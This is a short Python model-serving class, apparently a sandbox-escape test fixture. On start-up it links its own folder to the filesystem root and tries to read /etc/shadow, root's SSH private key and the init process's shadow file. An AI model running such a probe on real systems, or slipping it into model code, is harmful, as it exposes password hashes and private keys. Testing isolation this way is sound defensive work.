"""Follows a link of its own out of its folder."""

import os

from model_service.python_model_service import XgSklServingBaseService


class Service(XgSklServingBaseService):
    def __init__(self, model_path):
        os.symlink("/", "out")
        for path in ("out/etc/shadow", "out/root/.ssh/id_rsa", "out/proc/1/root/etc/shadow"):
            try:
                with open(path, "rb") as file:
                    if file.read(1):
                        return
            except OSError:
                continue
        raise RuntimeError("nothing could be read")

    def _inference(self, data):
        pass

    def _postprocess(self, data):
        return [{"predictresult": 1}]
